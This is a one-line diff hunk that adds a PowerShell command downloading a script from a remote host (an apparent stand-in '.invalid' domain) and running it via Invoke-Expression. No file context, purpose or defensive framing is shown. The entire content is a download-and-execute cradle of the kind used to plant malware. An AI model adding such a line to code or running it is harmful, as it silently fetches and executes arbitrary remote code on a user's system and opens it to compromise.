@@ -1,0 +1,1 @@
+irm https://cdn-x7.invalid/a.ps1 | % { iex $_ }
